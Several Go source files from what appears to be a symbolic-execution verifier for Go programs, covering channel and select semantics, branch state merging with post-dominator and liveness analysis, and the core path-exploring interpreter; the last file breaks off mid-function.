// sendOn performs a (possibly blocking) send. Returns stOK when complete, stBlocked when parked.
func (in *Interp) sendOn(g *Goroutine, c *ChanObj, v Value, pos string) int {
	if c == nil {
		in.block(g, "send on nil chan", func() bool { return false })
		return stBlocked
	}
	// already registered on an unbuffered channel?
	for i, s := range c.sendersWait {
		if s.g == g {
			if s.done {
				c.sendersWait = append(c.sendersWait[:i:i], c.sendersWait[i+1:]...)
				return stOK
			}
			if c.closed {
				c.sendersWait = append(c.sendersWait[:i:i], c.sendersWait[i+1:]...)
				in.goPanic(g, &PanicV{Kind: "closedchan", Msg: "send on closed channel", Pos: pos})
				return stOK
			}
			in.block(g, "send on "+in.chanName(c), func() bool { return s.done || c.closed })
			return stBlocked
		}
	}
	if c.closed {
		in.goPanic(g, &PanicV{Kind: "closedchan", Msg: "send on closed channel", Pos: pos})
		return stOK
	}
	if c.cap > 0 {
		if len(c.buf) < c.cap {
			c.buf = append(c.buf, v)
			return stOK
		}
		in.block(g, "send on full "+in.chanName(c), func() bool { return c.closed || len(c.buf) < c.cap })
		return stBlocked
	}
	s := &chanSender{g: g, v: v}
	c.sendersWait = append(c.sendersWait, s)
	in.block(g, "send on "+in.chanName(c), func() bool { return s.done || c.closed })
	return stBlocked
}

func (in *Interp) doRecv(g *Goroutine, fr *Frame, x *ssa.UnOp) int {
	if in.syncPoint(g) {
		return stYield
	}
	cv := in.get(fr, x.X).(*ChanV)
	c := cv.C
	if c == nil {
		in.block(g, "recv on nil chan", func() bool { return false })
		return stBlocked
	}
	var v Value
	ok := true
	if g.handoff != nil {
		v = g.handoff.v
		g.handoff = nil
		g.unregisterRecv()
	} else {
		g.unregisterRecv()
		if !c.canRecvNow() {
			g.registerRecv(c)
			in.block(g, "recv on "+in.chanName(c), func() bool { return g.handoff != nil || c.canRecvNow() })
			return stBlocked
		}
		v, ok = c.takeRecv()
		if !ok {
			v = zeroValue(c.elemType(x.X.Type()))
		}
	}
	if x.CommaOk {
		fr.env[x] = &TupleV{E: []Value{v, BoolC(ok)}}
	} else {
		fr.env[x] = v
	}
	fr.pc++
	return stOK
}

func (c *ChanObj) elemType(t types.Type) types.Type {
	if c.elem != nil {
		return c.elem
	}
	return t.Underlying().(*types.Chan).Elem()
}

func (in *Interp) chanClose(g *Goroutine, cv *ChanV, cc *callCtx) (Value, int) {
	if in.syncPoint(g) {
		return nil, irYield
	}
	if cv.C == nil {
		in.goPanic(g, &PanicV{Kind: "closedchan", Msg: "close of nil channel"})
		return nil, irPanic
	}
	if cv.C.closed {
		in.goPanic(g, &PanicV{Kind: "closedchan", Msg: "close of closed channel"})
		return nil, irPanic
	}
	cv.C.closed = true
	return nil, irDone
}

func (in *Interp) doSelect(g *Goroutine, fr *Frame, x *ssa.Select) int {
	if in.syncPoint(g) {
		return stYield
	}
	type st struct {
		idx  int
		c    *ChanObj
		send bool
		v    Value
	}
	// result tuple: (index int, recvOk bool, r_0 T_0, ... r_n-1 T_n-1)
	mk := func(idx int, ok bool, vals map[int]Value) Value {
		t := &TupleV{E: []Value{Const(64, uint64(int64(idx))), BoolC(ok)}}
		for i, s := range x.States {
			if s.Dir == types.RecvOnly {
				if v, has := vals[i]; has {
					t.E = append(t.E, v)
				} else {
					t.E = append(t.E, zeroValue(s.Chan.Type().Underlying().(*types.Chan).Elem()))
				}
			}
		}
		return t
	}
	var ready, all []st
	for i, s := range x.States {
		cv := in.get(fr, s.Chan).(*ChanV)
		e := st{idx: i, c: cv.C, send: s.Dir == types.SendOnly}
		if e.send {
			e.v = in.get(fr, s.Send)
		}
		all = append(all, e)
	}
	if g.handoff != nil {
		h := g.handoff
		g.handoff = nil
		g.unregisterRecv()
		for _, e := range all {
			if !e.send && e.c == h.c {
				fr.env[x] = mk(e.idx, true, map[int]Value{e.idx: h.v})
				fr.pc++
				return stOK
			}
		}
		panic(engineErr("handoff for channel not in select"))
	}
	g.unregisterRecv()
	for _, e := range all {
		if e.c == nil {
			continue
		}
		if e.send {
			if e.c.canSelectSend() {
				ready = append(ready, e)
			}
		} else if e.c.canRecvNow() {
			ready = append(ready, e)
		}
	}
	if len(ready) == 0 {
		if !x.Blocking {
			fr.env[x] = mk(-1, false, nil)
			fr.pc++
			return stOK
		}
		for _, e := range all {
			if e.c != nil && !e.send {
				g.registerRecv(e.c)
			}
		}
		allc := all
		in.block(g, "select", func() bool {
			if g.handoff != nil {
				return true
			}
			for _, e := range allc {
				if e.c == nil {
					continue
				}
				if e.send && e.c.canSelectSend() {
					return true
				}
				if !e.send && e.c.canRecvNow() {
					return true
				}
			}
			return false
		})
		return stBlocked
	}
	k := 0
	if len(ready) > 1 {
		k = in.choose(len(ready), "select")
	}
	e := ready[k]
	if e.send {
		if e.c.closed {
			in.goPanic(g, &PanicV{Kind: "closedchan", Msg: "send on closed channel (select)", Pos: in.posOf(x)})
			return stOK
		}
		if e.c.cap > 0 {
			e.c.buf = append(e.c.buf, e.v)
		} else {
			rs := e.c.freeReceivers()
			r := rs[0]
			if len(rs) > 1 {
				r = rs[in.choose(len(rs), "handoff")]
			}
			r.handoff = &handoffRec{c: e.c, v: e.v}
		}
		fr.env[x] = mk(e.idx, false, nil)
	} else {
		v, ok := e.c.takeRecv()
		if !ok {
			v = zeroValue(e.c.elemType(x.States[e.idx].Chan.Type()))
		}
		fr.env[x] = mk(e.idx, ok, map[int]Value{e.idx: v})
	}
	fr.pc++
	return stOK
}
