package main

// merge.go - state merging: if-conversion of symbolic branches whose two sides rejoin
// (at the immediate post-dominator block, or at the function's return for functions with
// scalar results).  Each side is executed under a write log; logs, phi values and return
// values are then combined with ite.  Anything that cannot be merged soundly aborts the
// attempt (mergeFail) and the branch is explored by forking instead.

import (
	"fmt"
	"go/types"
	"os"
	"sync"

	"golang.org/x/tools/go/ssa"
)

type mergeFail struct{ why string }

var debugMerge = os.Getenv("SYMGO_DEBUGMERGE") != ""

type TimerObj struct {
	armed    bool
	deadline *Term
	fn       *FuncV
	fired    int
	resets   int
	pending  int
}

type retCapture struct {
	fr   *Frame
	val  Value
	done bool
}

var pdomCache sync.Map // *ssa.Function -> []int (ipdom block index, -1 = exit)

func ipdoms(fn *ssa.Function) []int {
	if v, ok := pdomCache.Load(fn); ok {
		return v.([]int)
	}
	n := len(fn.Blocks)
	exit := n
	// pdom sets as bitsets over n+1 nodes
	words := (n + 1 + 63) / 64
	full := make([]uint64, words)
	for i := 0; i <= n; i++ {
		full[i/64] |= 1 << uint(i%64)
	}
	pd := make([][]uint64, n+1)
	for i := 0; i <= n; i++ {
		pd[i] = append([]uint64(nil), full...)
	}
	pd[exit] = make([]uint64, words)
	pd[exit][exit/64] |= 1 << uint(exit%64)
	succs := func(i int) []int {
		b := fn.Blocks[i]
		if len(b.Succs) == 0 {
			return []int{exit}
		}
		r := make([]int, len(b.Succs))
		for k, s := range b.Succs {
			r[k] = s.Index
		}
		return r
	}
	changed := true
	for changed {
		changed = false
		for i := n - 1; i >= 0; i-- {
			nw := append([]uint64(nil), full...)
			for _, s := range succs(i) {
				for w := range nw {
					nw[w] &= pd[s][w]
				}
			}
			nw[i/64] |= 1 << uint(i%64)
			same := true
			for w := range nw {
				if nw[w] != pd[i][w] {
					same = false
				}
			}
			if !same {
				pd[i] = nw
				changed = true
			}
		}
	}
	has := func(set []uint64, k int) bool { return set[k/64]&(1<<uint(k%64)) != 0 }
	count := func(set []uint64) int {
		c := 0
		for k := 0; k <= n; k++ {
			if has(set, k) {
				c++
			}
		}
		return c
	}
	res := make([]int, n)
	for i := 0; i < n; i++ {
		// ipdom = the strict post-dominator with the largest pdom set (closest)
		best, bestc := -1, -1
		for k := 0; k <= n; k++ {
			if k == i || !has(pd[i], k) {
				continue
			}
			c := count(pd[k])
			if c > bestc {
				best, bestc = k, c
			}
		}
		if best == exit {
			best = -1
		}
		res[i] = best
	}
	pdomCache.Store(fn, res)
	return res
}

func scalarResults(fn *ssa.Function) bool {
	r := fn.Signature.Results()
	if r.Len() == 0 {
		return false
	}
	for i := 0; i < r.Len(); i++ {
		t := r.At(i).Type()
		if _, _, ok := intWidth(t); ok {
			continue
		}
		if isBool(t) {
			continue
		}
		return false
	}
	return true
}

// regionOK statically rejects regions containing instructions that can never be merged.
func regionOK(fn *ssa.Function, from *ssa.BasicBlock, join *ssa.BasicBlock, seen map[*ssa.BasicBlock]bool, budget *int) bool {
	if from == join || seen[from] {
		return true
	}
	seen[from] = true
	*budget -= len(from.Instrs)
	if *budget < 0 {
		return false
	}
	for _, i := range from.Instrs {
		switch x := i.(type) {
		case *ssa.Go, *ssa.Send, *ssa.Select, *ssa.Defer, *ssa.Panic, *ssa.RunDefers:
			return false
		case *ssa.Return:
			if join != nil {
				return false
			}
		case *ssa.UnOp:
			if x.Op.String() == "<-" {
				return false
			}
		}
	}
	for _, s := range from.Succs {
		if !regionOK(fn, s, join, seen, budget) {
			return false
		}
	}
	return true
}

func (in *Interp) tryMergeIf(g *Goroutine, fr *Frame, x *ssa.If, c *Term) (merged bool) {
	if in.inSync > 0 && in.mergeDepth == 0 {
		// inside callSync we may still merge; fine
	}
	if in.mergeDepth > 6 {
		return false
	}
	replayedMS := false
	if in.mergeDepth == 0 {
		if idx := len(in.trace); idx < len(in.prefix) {
			switch in.prefix[idx].Kind {
			case "mf":
				in.trace = append(in.trace, in.prefix[idx])
				return false
			case "ms":
				replayedMS = true
			case "mn":
				in.trace = append(in.trace, in.prefix[idx])
				return false
			default:
				in.inconclusive(fmt.Sprintf("nondeterministic replay at decision %d: symbolic If but recorded %s", idx, in.prefix[idx].Kind))
			}
		}
	}
	_ = replayedMS
	fn := fr.fn
	ip := ipdoms(fn)[fr.block.Index]
	var join *ssa.BasicBlock
	if ip >= 0 {
		join = fn.Blocks[ip]
	} else if !scalarResults(fn) || len(fr.defers) > 0 || len(fn.FreeVars) > 0 {
		if in.mergeDepth == 0 {
			in.trace = append(in.trace, Decision{Kind: "mn", Forced: true, N: 1})
		}
		return false
	}
	budget := 400
	seen := map[*ssa.BasicBlock]bool{}
	if !regionOK(fn, fr.block.Succs[0], join, seen, &budget) || !regionOK(fn, fr.block.Succs[1], join, seen, &budget) {
		if in.mergeDepth == 0 {
			in.trace = append(in.trace, Decision{Kind: "mn", Forced: true, N: 1})
		}
		return false
	}
	// save state for rollback
	depth := len(g.stack)
	savedBlock, savedPrev, savedPC := fr.block, fr.prev, fr.pc
	savedEnv := make(map[ssa.Value]Value, len(fr.env))
	for k, v := range fr.env {
		savedEnv[k] = v
	}
	savedLoop := map[*ssa.BasicBlock]int{}
	for k, v := range fr.loopCnt {
		savedLoop[k] = v
	}
	wdepth := len(in.wlog)
	cdepth := len(in.captures)
	savedSteps := in.steps
	in.mergeDepth++
	defer func() {
		in.mergeDepth--
		if r := recover(); r != nil {
			if ee, isE := r.(*EngineError); isE && in.mergeDepth == 0 {
				r = mergeFail{"engine: " + ee.Msg}
			}
			mf, ok := r.(mergeFail)
			if !ok {
				panic(r)
			}
			if debugMerge {
				fmt.Fprintf(os.Stderr, "mergeFail depth=%d in %s block %d join %d: %s\n", in.mergeDepth, fr.fn, savedBlock.Index, ip, mf.why)
			}
			// rollback
			in.wlog = in.wlog[:wdepth]
			in.captures = in.captures[:cdepth]
			g.stack = g.stack[:depth]
			fr.block, fr.prev, fr.pc = savedBlock, savedPrev, savedPC
			fr.loopCnt = savedLoop
			fr.env = savedEnv
			fr.mode = 0
			g.panicking = nil
			in.steps = savedSteps
			in.mergeFails++
			merged = false
			if in.mergeDepth == 0 {
				in.trace = append(in.trace, Decision{Kind: "mf", Forced: true, N: 1})
			}
		}
	}()

	type sideRes struct {
		log  map[*Cell]Value
		phis []Value
		ret  Value
		env  map[ssa.Value]Value
	}
	var phis []*ssa.Phi
	if join != nil {
		for _, i := range join.Instrs {
			p, ok := i.(*ssa.Phi)
			if !ok {
				break
			}
			phis = append(phis, p)
		}
	}
	runSide := func(k int) sideRes {
		log := map[*Cell]Value{}
		in.wlog = append(in.wlog, log)
		var cap *retCapture
		if join == nil {
			cap = &retCapture{fr: fr}
			in.captures = append(in.captures, cap)
		}
		fr.block, fr.prev, fr.pc = savedBlock, savedPrev, savedPC
		fr.env = make(map[ssa.Value]Value, len(savedEnv)+16)
		for kk, v := range savedEnv {
			fr.env[kk] = v
		}
		fr.loopCnt = map[*ssa.BasicBlock]int{}
		for kk, v := range savedLoop {
			fr.loopCnt[kk] = v
		}
		in.jump(fr, savedBlock.Succs[k])
		start := in.steps
		for {
			if join != nil && len(g.stack) == depth && fr.block == join && fr.pc == len(phis) && fr.prev != nil && in.arrived(fr, join) {
				break
			}
			if cap != nil && cap.done {
				break
			}
			if len(g.stack) < depth {
				panic(mergeFail{"frame returned inside region"})
			}
			if in.steps-start > 20000 {
				panic(mergeFail{"region too long"})
			}
			st := in.step(g)
			if st != stOK {
				panic(mergeFail{"blocking op in region"})
			}
			if g.panicking != nil {
				panic(mergeFail{"panic in region"})
			}
		}
		in.wlog = in.wlog[:len(in.wlog)-1]
		res := sideRes{log: log, env: fr.env}
		if cap != nil {
			in.captures = in.captures[:len(in.captures)-1]
			res.ret = cap.val
		} else {
			for _, p := range phis {
				res.phis = append(res.phis, fr.env[p])
			}
		}
		return res
	}
	a := runSide(0)
	b := runSide(1)
	// merge memory
	cells := map[*Cell]bool{}
	for cl := range a.log {
		cells[cl] = true
	}
	for cl := range b.log {
		cells[cl] = true
	}
	type upd struct {
		c *Cell
		v Value
	}
	var upds []upd
	for cl := range cells {
		va, oka := a.log[cl]
		vb, okb := b.log[cl]
		if !oka {
			va = in.loadLeaf(cl)
		}
		if !okb {
			vb = in.loadLeaf(cl)
		}
		mv, ok := in.mergeValues(c, va, vb, a.log, b.log)
		if !ok {
			panic(mergeFail{"unmergeable memory cell"})
		}
		upds = append(upds, upd{cl, mv})
	}
	if join == nil {
		rv, ok := in.mergeValues(c, a.ret, b.ret, a.log, b.log)
		if !ok {
			panic(mergeFail{"unmergeable return value"})
		}
		for _, u := range upds {
			in.storeLeaf(u.c, u.v)
		}
		in.merges++
		if in.mergeDepth == 1 {
			in.trace = append(in.trace, Decision{Kind: "ms", Forced: true, N: 1})
		}
		in.mergeDepth--
		in.doReturn(g, fr, rv)
		in.mergeDepth++
		return true
	}
	// merge SSA bindings that were (re)defined inside the region (loops re-entering
	// dominating blocks): bindings present on both sides with different values are ite-merged.
	menv := b.env
	for k, va := range a.env {
		if _, ok := b.env[k]; !ok {
			menv[k] = va
		}
	}
	if join != nil {
		for k := range liveIn(fn)[join.Index] {
			va, oka := a.env[k]
			vb, okb := b.env[k]
			if !oka || !okb || va == vb {
				continue
			}
			mv, ok := in.mergeValues(c, va, vb, a.log, b.log)
			if !ok {
				panic(mergeFail{"unmergeable live SSA binding " + k.Name() + " " + describe(va) + " / " + describe(vb)})
			}
			menv[k] = mv
		}
	}
	fr.env = menv
	var pv []Value
	for i := range phis {
		mv, ok := in.mergeValues(c, a.phis[i], b.phis[i], a.log, b.log)
		if !ok {
			panic(mergeFail{"unmergeable phi"})
		}
		pv = append(pv, mv)
	}
	for _, u := range upds {
		in.storeLeaf(u.c, u.v)
	}
	for i, p := range phis {
		fr.env[p] = pv[i]
	}
	// fr is now positioned at join after phis (from side b)
	in.merges++
	if in.mergeDepth == 1 {
		in.trace = append(in.trace, Decision{Kind: "ms", Forced: true, N: 1})
	}
	return true
}

// arrived is a hook to distinguish "jumped to join" from the initial state; since the region
// starts by jumping away from the If block, being in join at pc==len(phis) means arrival.
func (in *Interp) arrived(fr *Frame, join *ssa.BasicBlock) bool { return true }

// mergeValues builds ite(c, a, b) for values of identical shape.
func (in *Interp) mergeValues(c *Term, a, b Value, la, lb map[*Cell]Value) (Value, bool) {
	if a == nil && b == nil {
		return nil, true
	}
	switch x := a.(type) {
	case *Term:
		y, ok := b.(*Term)
		if !ok || x.W != y.W {
			return nil, false
		}
		return Ite(c, x, y), true
	case *StrV:
		y, ok := b.(*StrV)
		if !ok || len(x.B) != len(y.B) {
			return nil, false
		}
		r := &StrV{B: make([]*Term, len(x.B))}
		for i := range x.B {
			r.B[i] = Ite(c, x.B[i], y.B[i])
		}
		return r, true
	case *PtrV:
		y, ok := b.(*PtrV)
		if !ok || x.C != y.C {
			return nil, false
		}
		return x, true
	case *SliceV:
		y, ok := b.(*SliceV)
		if !ok {
			return nil, false
		}
		if x.Nil && y.Nil {
			return x, true
		}
		if x.Nil != y.Nil || x.Len != y.Len {
			return nil, false
		}
		if x.Len == 0 && x.Cap() == 0 && y.Cap() == 0 {
			return x, true
		}
		if x.Cap() > 0 && y.Cap() > 0 && x.Cells[0] == y.Cells[0] && x.Cap() == y.Cap() {
			return x, true
		}
		// different backing stores: read-only merged view
		cells := make([]*Cell, x.Len)
		for i := 0; i < x.Len; i++ {
			if x.Cells[i].Kids != nil {
				return nil, false
			}
			va, oka := la[x.Cells[i]]
			if !oka {
				va = in.loadLeaf(x.Cells[i])
			}
			vb, okb := lb[y.Cells[i]]
			if !okb {
				vb = in.loadLeaf(y.Cells[i])
			}
			mv, ok := in.mergeValues(c, va, vb, la, lb)
			if !ok {
				return nil, false
			}
			cells[i] = &Cell{T: x.Cells[i].T, V: mv, Frozen: true}
		}
		return &SliceV{Cells: cells, Len: x.Len, Frozen: true}, true
	case *StructV:
		y, ok := b.(*StructV)
		if !ok || len(x.F) != len(y.F) {
			return nil, false
		}
		r := &StructV{F: make([]Value, len(x.F))}
		for i := range x.F {
			v, ok := in.mergeValues(c, x.F[i], y.F[i], la, lb)
			if !ok {
				return nil, false
			}
			r.F[i] = v
		}
		return r, true
	case *ArrayV:
		y, ok := b.(*ArrayV)
		if !ok || len(x.E) != len(y.E) {
			return nil, false
		}
		r := &ArrayV{E: make([]Value, len(x.E))}
		for i := range x.E {
			v, ok := in.mergeValues(c, x.E[i], y.E[i], la, lb)
			if !ok {
				return nil, false
			}
			r.E[i] = v
		}
		return r, true
	case *TupleV:
		y, ok := b.(*TupleV)
		if !ok || len(x.E) != len(y.E) {
			return nil, false
		}
		r := &TupleV{E: make([]Value, len(x.E))}
		for i := range x.E {
			v, ok := in.mergeValues(c, x.E[i], y.E[i], la, lb)
			if !ok {
				return nil, false
			}
			r.E[i] = v
		}
		return r, true
	case *IfaceV:
		y, ok := b.(*IfaceV)
		if !ok {
			return nil, false
		}
		if x.T == nil && y.T == nil {
			return x, true
		}
		if x.T == nil || y.T == nil || !types.Identical(x.T, y.T) {
			return nil, false
		}
		v, ok := in.mergeValues(c, x.V, y.V, la, lb)
		if !ok {
			return nil, false
		}
		return &IfaceV{T: x.T, V: v}, true
	case *FuncV:
		y, ok := b.(*FuncV)
		if ok && (x == y || (isNilFunc(x) && isNilFunc(y))) {
			return x, true
		}
		return nil, false
	case *MapV:
		y, ok := b.(*MapV)
		if ok && x.M == y.M {
			return x, true
		}
		return nil, false
	case *ChanV:
		y, ok := b.(*ChanV)
		if ok && x.C == y.C {
			return x, true
		}
		return nil, false
	case *NativeV:
		y, ok := b.(*NativeV)
		if ok && x.X == y.X {
			return x, true
		}
		return nil, false
	}
	return nil, false
}

var liveCache sync.Map // *ssa.Function -> []map[ssa.Value]bool (live-in per block, excluding the block's own phis)

func liveIn(fn *ssa.Function) []map[ssa.Value]bool {
	if v, ok := liveCache.Load(fn); ok {
		return v.([]map[ssa.Value]bool)
	}
	n := len(fn.Blocks)
	in_ := make([]map[ssa.Value]bool, n)
	out := make([]map[ssa.Value]bool, n)
	for i := range in_ {
		in_[i] = map[ssa.Value]bool{}
		out[i] = map[ssa.Value]bool{}
	}
	isInstrVal := func(v ssa.Value) bool {
		if v == nil {
			return false
		}
		_, ok := v.(ssa.Instruction)
		return ok
	}
	changed := true
	for changed {
		changed = false
		for bi := n - 1; bi >= 0; bi-- {
			b := fn.Blocks[bi]
			o := out[bi]
			for _, s := range b.Succs {
				for v := range in_[s.Index] {
					if !o[v] {
						o[v] = true
						changed = true
					}
				}
				// phi operands coming from b
				pi := -1
				for k, p := range s.Preds {
					if p == b {
						pi = k
					}
				}
				for _, ins := range s.Instrs {
					ph, ok := ins.(*ssa.Phi)
					if !ok {
						break
					}
					if pi >= 0 && isInstrVal(ph.Edges[pi]) && !o[ph.Edges[pi]] {
						o[ph.Edges[pi]] = true
						changed = true
					}
				}
			}
			live := map[ssa.Value]bool{}
			for v := range o {
				live[v] = true
			}
			for k := len(b.Instrs) - 1; k >= 0; k-- {
				ins := b.Instrs[k]
				if v, ok := ins.(ssa.Value); ok {
					delete(live, v)
				}
				if _, isPhi := ins.(*ssa.Phi); isPhi {
					continue
				}
				var ops []*ssa.Value
				for _, op := range ins.Operands(ops) {
					if isInstrVal(*op) {
						live[*op] = true
					}
				}
			}
			for v := range live {
				if !in_[bi][v] {
					in_[bi][v] = true
					changed = true
				}
			}
		}
	}
	liveCache.Store(fn, in_)
	return in_
}
