package main

import "golang.org/x/tools/go/ssa"

type mergeFail struct{ why string }

func (in *Interp) tryMergeIf(g *Goroutine, fr *Frame, x *ssa.If, c *Term) bool { return false }

type TimerObj struct {
	armed    bool
	deadline *Term
	fn       *FuncV
	fired    int
}
