package main

// interp.go - the symbolic SSA interpreter: frames, goroutines, path exploration by
// re-execution with recorded decisions.

import (
	"fmt"
	"go/token"
	"go/types"
	"os"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

type Decision struct {
	Choice int    `json:"c"`
	N      int    `json:"n"`
	Forced bool   `json:"f,omitempty"`
	Kind   string `json:"k,omitempty"`
	Val    uint64 `json:"v,omitempty"`
}

type deferred struct {
	fn   Value
	args []Value
	// invoke-mode call
	method *types.Func
}

type Frame struct {
	fn            *ssa.Function
	env           map[ssa.Value]Value
	block         *ssa.BasicBlock
	prev          *ssa.BasicBlock
	pc            int
	defers        []deferred
	call          ssa.Value     // instruction in caller to bind the result to (nil: discard)
	mode          int           // 0 normal, 1 running defers (normal exit), 2 unwinding panic
	ret           Value         // pending return value (when mode==1 from Return... not used by ssa)
	isDefer       bool          // this frame is a deferred call
	onRet         func(v Value) // optional native continuation
	nativeBarrier bool          // callSync boundary
	loopCnt       map[*ssa.BasicBlock]int
}

type PanicV struct {
	V    Value
	Msg  string
	Kind string // "explicit","index","nil","div","typeassert","closedchan",...
	Pos  string
}

const (
	gRunnable = iota
	gBlocked
	gDone
)

type Goroutine struct {
	id        int
	name      string
	stack     []*Frame
	status    int
	ready     func() bool // for blocked goroutines: can it proceed now?
	atSync    bool        // yielded at a sync point; next execution of the op must not yield again
	panicking *PanicV
	recovered bool
	blockedOn string
	site      string
	isActor   bool
	handoff   *handoffRec
	recvRegs  []*ChanObj
}

type NondetRec struct {
	Name  string   `json:"name"`
	Kind  string   `json:"kind"`
	Vars  []string `json:"vars,omitempty"`
	Value int64    `json:"value,omitempty"` // for concrete choices
	Width int      `json:"width,omitempty"`
}

type Violation struct {
	Label   string            `json:"label"`
	Kind    string            `json:"kind"` // assert, panic, unreachable, leak, deadlock
	Detail  string            `json:"detail"`
	Model   map[string]uint64 `json:"model,omitempty"`
	Nondets []NondetRec       `json:"nondets,omitempty"`
	Trace   []Decision        `json:"decisions,omitempty"`
	Events  []string          `json:"events,omitempty"`
	Sched   []string          `json:"schedule,omitempty"`
	Pos     string            `json:"pos,omitempty"`
}

type PathResult struct {
	Outcome    string // ok, pruned, panic, inconclusive, violation
	Detail     string
	Violations []Violation
	Asserts    int // assertion obligations discharged (unsat)
	Reaches    map[string]bool
	Alts       [][]Decision
	Steps      int
	Observed   []string
	Inconcl    []string
	Forks      int
	SamplePC   string
}

type Interp struct {
	w      *World
	solver *Solver
	cfg    *JobConfig

	pc      []*Term
	prefix  []Decision
	trace   []Decision
	alts    [][]Decision
	gors    []*Goroutine
	cur     *Goroutine
	globals map[*ssa.Global]*Cell
	ginit   map[*ssa.Global]bool

	nondets  []NondetRec
	symN     int
	res      *PathResult
	steps    int
	preempts int
	events   []string
	sched    []string
	canary   bool

	// guarded (if-converted) execution
	wlog []map[*Cell]Value

	objSeq     int
	stubCalls  map[string]int
	ghost      map[string]Value
	natives    map[string]interface{}
	timers     []*TimerObj
	nowT       *Term
	inSync     int
	allVars    []string
	funcIDs    int
	mergeDepth int
	merges     int
	mergeFails int
	captures   []*retCapture
	observed   []string
	concPos    int
	fnSeen     map[*ssa.Function]bool
	logs       []*logRec
	delays     int
}

type pathAbort struct {
	outcome string
	detail  string
}

func (in *Interp) abort(outcome, detail string) {
	panic(&pathAbort{outcome, detail})
}

func (in *Interp) inconclusive(detail string) {
	panic(&pathAbort{"inconclusive", detail})
}

func (in *Interp) freshVar(hint string, w int) *Term {
	in.symN++
	name := fmt.Sprintf("%s!%d", sanitize(hint), in.symN)
	in.allVars = append(in.allVars, name)
	return Var(name, w)
}

func sanitize(s string) string {
	var sb strings.Builder
	for _, c := range s {
		if (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_' {
			sb.WriteRune(c)
		} else {
			sb.WriteByte('_')
		}
	}
	if sb.Len() == 0 {
		return "v"
	}
	return sb.String()
}

// ---------- decisions ----------

// choose makes an n-way nondeterministic choice (explored exhaustively).
func (in *Interp) choose(n int, kind string) int {
	if n <= 1 {
		return 0
	}
	if in.mergeDepth > 0 {
		panic(mergeFail{"nondeterministic choice in merged region"})
	}
	idx := len(in.trace)
	if idx < len(in.prefix) {
		d := in.prefix[idx]
		if d.N != n && !d.Forced {
			in.inconclusive(fmt.Sprintf("nondeterministic replay: decision %d kind %s n=%d recorded n=%d kind %s", idx, kind, n, d.N, d.Kind))
		}
		in.trace = append(in.trace, d)
		return d.Choice
	}
	for c := 1; c < n; c++ {
		alt := make([]Decision, len(in.trace)+1)
		copy(alt, in.trace)
		alt[len(in.trace)] = Decision{Choice: c, N: n, Kind: kind}
		in.alts = append(in.alts, alt)
	}
	in.trace = append(in.trace, Decision{Choice: 0, N: n, Kind: kind})
	in.res.Forks++
	return 0
}

func (in *Interp) addPC(t *Term) {
	if t.IsTrue() {
		return
	}
	if in.mergeDepth > 0 {
		panic(mergeFail{"path condition change in merged region"})
	}
	in.pc = append(in.pc, t)
	in.solver.Assert(t)
}

// branch decides a symbolic condition, forking if both sides are feasible.
func (in *Interp) branch(cond *Term) bool {
	if cond.IsConst() {
		return cond.Val == 1
	}
	if in.mergeDepth > 0 {
		panic(mergeFail{"symbolic branch in merged region"})
	}
	idx := len(in.trace)
	if idx < len(in.prefix) {
		d := in.prefix[idx]
		in.trace = append(in.trace, d)
		if d.Kind != "br" {
			in.inconclusive(fmt.Sprintf("nondeterministic replay at decision %d: expected branch, recorded %s", idx, d.Kind))
		}
		if d.Choice == 0 {
			if !d.Forced {
				in.addPC(cond)
			}
			return true
		}
		if !d.Forced {
			in.addPC(Not(cond))
		}
		return false
	}
	rt := in.solver.Check(cond)
	in.solver.Done()
	rf := in.solver.Check(Not(cond))
	in.solver.Done()
	tOK := rt != "unsat"
	fOK := rf != "unsat"
	switch {
	case tOK && fOK:
		alt := make([]Decision, len(in.trace)+1)
		copy(alt, in.trace)
		alt[len(in.trace)] = Decision{Choice: 1, N: 2, Kind: "br"}
		in.alts = append(in.alts, alt)
		in.trace = append(in.trace, Decision{Choice: 0, N: 2, Kind: "br"})
		in.res.Forks++
		in.addPC(cond)
		return true
	case tOK:
		in.trace = append(in.trace, Decision{Choice: 0, N: 2, Kind: "br", Forced: true})
		return true
	case fOK:
		in.trace = append(in.trace, Decision{Choice: 1, N: 2, Kind: "br", Forced: true})
		return false
	default:
		in.abort("pruned", "infeasible path")
		return false
	}
}

// concretize forces a term to a concrete value by forking over its feasible values.  The
// value picked from the solver's model is recorded in the decision so that re-execution of
// the prefix is deterministic.
func (in *Interp) concretize(t *Term, what string) uint64 {
	if t.IsConst() {
		return t.Val
	}
	if in.mergeDepth > 0 {
		panic(mergeFail{"concretization in merged region"})
	}
	eqv := func(v uint64) *Term {
		if t.W == 0 {
			return Eq(t, BoolC(v != 0))
		}
		return Eq(t, Const(t.W, v))
	}
	for i := 0; i < 4096; i++ {
		idx := len(in.trace)
		if idx < len(in.prefix) {
			d := in.prefix[idx]
			if d.Kind != "conc" {
				in.inconclusive(fmt.Sprintf("nondeterministic replay at decision %d: expected concretization, recorded %s", idx, d.Kind))
			}
			in.trace = append(in.trace, d)
			if d.Choice == 0 {
				in.addPC(eqv(d.Val))
				return d.Val
			}
			in.addPC(Not(eqv(d.Val)))
			continue
		}
		// fresh: obtain a model value
		probe := in.freshVar("conc", maxw(t.W))
		var eq *Term
		if t.W == 0 {
			eq = Eq(probe, Ite(t, Const(1, 1), Const(1, 0)))
		} else {
			eq = Eq(probe, t)
		}
		r := in.solver.Check(eq)
		if r != "sat" {
			in.solver.Done()
			if r == "unsat" {
				in.abort("pruned", "infeasible path in concretize")
			}
			in.inconclusive("solver unknown while concretizing " + what)
		}
		m := in.solver.Model([]string{probe.Name})
		in.solver.Done()
		v := m[probe.Name]
		ro := in.solver.Check(Not(eqv(v)))
		in.solver.Done()
		if ro != "unsat" {
			alt := make([]Decision, len(in.trace)+1)
			copy(alt, in.trace)
			alt[len(in.trace)] = Decision{Choice: 1, N: 2, Kind: "conc", Val: v}
			in.alts = append(in.alts, alt)
			in.res.Forks++
		}
		in.trace = append(in.trace, Decision{Choice: 0, N: 2, Kind: "conc", Val: v, Forced: ro == "unsat"})
		in.addPC(eqv(v))
		return v
	}
	in.inconclusive("too many values concretizing " + what)
	return 0
}

// ---------- top level path execution ----------

func (in *Interp) runPath(entry *ssa.Function) (res *PathResult) {
	in.res = &PathResult{Outcome: "ok", Reaches: map[string]bool{}}
	res = in.res
	in.solver.Reset()
	defer func() {
		if r := recover(); r != nil {
			switch x := r.(type) {
			case *pathAbort:
				res.Outcome = x.outcome
				res.Detail = x.detail
			case *EngineError:
